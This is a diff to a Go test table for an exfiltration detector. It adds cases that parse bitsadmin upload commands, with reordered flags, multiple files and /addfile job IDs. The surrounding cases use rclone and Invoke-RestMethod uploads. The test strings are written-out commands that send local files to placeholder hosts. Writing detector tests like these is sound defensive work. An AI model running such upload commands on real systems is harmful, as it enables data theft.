@@ -75,6 +75,10 @@ func TestRecognise(t *testing.T) {
 			action{kind: result.ExposureExfiltrated, tool: "rclone", sources: []string{`D:\Projects`}, dest: "mega:backup", recursive: true}},
 		{"bitsadmin upload", `bitsadmin /transfer j /upload /priority high http://x.example/u C:\t\o.zip`, ``,
 			action{kind: result.ExposureExfiltrated, tool: "bitsadmin", sources: []string{`C:\t\o.zip`}, dest: "http://x.example/u"}},
+		{"bitsadmin /upload before the job's name, two files", `bitsadmin /transfer /upload j https://x.example/u C:\t\a.zip https://x.example/v b.zip`, `C:\w`,
+			action{kind: result.ExposureExfiltrated, tool: "bitsadmin", sources: []string{`C:\t\a.zip`, `C:\w\b.zip`}, dest: "https://x.example/u"}},
+		{"bitsadmin /addfile: the job's direction decides", `bitsadmin /addfile J1 https://x.example/u C:\t\o.zip`, ``,
+			action{kind: result.ExposureExfiltrated, tool: "bitsadmin", sources: []string{`C:\t\o.zip`}, dest: "https://x.example/u", bitsJob: "j1"}},
 		{"bitsadmin download is no upload", `bitsadmin /transfer j /download http://x/u C:\t\o.exe`, ``, action{}},
 		{"Invoke-RestMethod with -InFile", `pwsh -c "irm -Method Put -InFile C:\o.zip https://blob.example/c/o.zip"`, ``,
 			action{kind: result.ExposureExfiltrated, tool: "Invoke-RestMethod", sources: []string{`C:\o.zip`}, dest: "https://blob.example/c/o.zip"}},
@@ -90,7 +94,7 @@ func TestRecognise(t *testing.T) {
 			}
 			if got.kind != tc.want.kind || got.tool != tc.want.tool || got.dest != tc.want.dest || !slices.Equal(got.sources, tc.want.sources) ||
 				got.password != tc.want.password || got.headers != tc.want.headers || got.recursive != tc.want.recursive ||
-				got.volSize != tc.want.volSize || got.listFile != tc.want.listFile {
+				got.volSize != tc.want.volSize || got.listFile != tc.want.listFile || got.bitsJob != tc.want.bitsJob {
 				t.Errorf("got  %+v\nwant %+v", got, tc.want)
 			}
 		})
